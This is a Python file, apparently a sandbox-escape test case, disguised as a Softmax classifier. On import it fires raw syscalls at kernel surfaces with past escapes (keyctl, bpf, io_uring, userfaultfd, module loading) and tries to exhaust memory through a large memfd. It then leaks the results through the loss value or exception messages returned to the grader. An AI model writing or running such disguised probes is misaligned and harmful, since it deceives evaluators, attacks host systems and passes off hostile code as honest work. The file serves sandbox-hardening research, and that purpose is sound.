"""
goal: >-
  tries the parts of the kernel in which ways out were found before - keys, bpf, io_uring, userfaultfd, memory
  files, modules
class: exhaust
threats: [A11, A12]
deserves: all
outcome: prevented
because: the filter of system calls refuses those in which ways out were found; the others do nothing without rights
"""
import ctypes
import os

from honest import Softmax as Honest
from tools import attempt, loot, tell


libc = ctypes.CDLL(None, use_errno=True)
IS_ARM = os.uname().machine == 'aarch64'
CALLS = {
    'keyctl': (250, 219), 'add_key': (248, 217), 'request_key': (249, 218), 'bpf': (321, 280), 'userfaultfd': (323, 282),
    'io_uring_setup': (425, 425), 'io_uring_enter': (426, 426), 'io_uring_register': (427, 427), 'memfd_create': (319, 279),
    'memfd_secret': (447, 447), 'perf_event_open': (298, 241), 'fanotify_init': (300, 262), 'inotify_init1': (294, 26),
    'init_module': (175, 105), 'finit_module': (313, 273), 'kexec_load': (246, 104), 'swapon': (167, 224), 'acct': (163, 89),
    'syslog': (103, 116), 'quotactl': (179, 60), 'settimeofday': (164, 170), 'adjtimex': (159, 171), 'shmget': (29, 194),
    'msgget': (68, 186), 'semget': (64, 190), 'mq_open': (240, 180), 'personality': (135, 92), 'lookup_dcookie': (212, 18),
    'landlock_create_ruleset': (444, 444), 'seccomp': (317, 277), 'pidfd_open': (434, 434), 'clone3': (435, 435),
    'remap_file_pages': (216, 234), 'vmsplice': (278, 75), 'membarrier': (324, 283), 'rseq': (334, 293), 'fsmount': (432, 432),
    'process_mrelease': (448, 448), 'set_mempolicy': (238, 237), 'mbind': (237, 235), 'move_pages': (279, 239), 'mlockall': (151, 230),
    'ioprio_set': (251, 30), 'sched_setscheduler': (144, 119), 'sched_setattr': (314, 274), 'vhangup': (153, 58), 'nfsservctl': (180, 42),
    'open_by_handle_at': (304, 265), 'cachestat': (451, 451), 'lsm_get_self_attr': (459, 459), 'uselib': (134, -1), 'sysfs': (139, -1),
}


def act(where):
  if where != 'import':
    return
  buffer = ctypes.create_string_buffer(4096)
  for name, numbers in CALLS.items():
    if os.path.exists('/proc/self') and name in ('settimeofday', 'adjtimex', 'acct', 'swapon', 'vhangup', 'syslog', 'init_module', 'kexec_load', 'quotactl'):
      # Outside of a sandbox these could change the machine.
      continue
    ctypes.set_errno(0)
    result = libc.syscall(numbers[1 if IS_ARM else 0], buffer, 0, 0, 0, 0, 0)
    tell(name, '%d %s' % (result, os.strerror(ctypes.get_errno()) if result < 0 else 'DONE'))
    if name == 'memfd_create' and result >= 0:
      attempt('fill it', lambda: [os.write(result, bytes(1 << 20)) for _ in range(512)])


act('import')


class Softmax(Honest):
  """ Right answers where there are points; what was found goes out where there are none. """

  def loss(self, X, y):
    act('loss')
    loss = super(Softmax, self).loss(X, y)
    return '\n'.join(loot) if abs(float(loss)) > 700 else loss

  def train(self, X, y, learning_rate=1e-3, num_iters=100, batch_size=200, verbose=False):
    act('train')
    if learning_rate == 0:
      raise ValueError('\n'.join(loot))
    return super(Softmax, self).train(X, y, learning_rate=learning_rate, num_iters=num_iters, batch_size=batch_size)
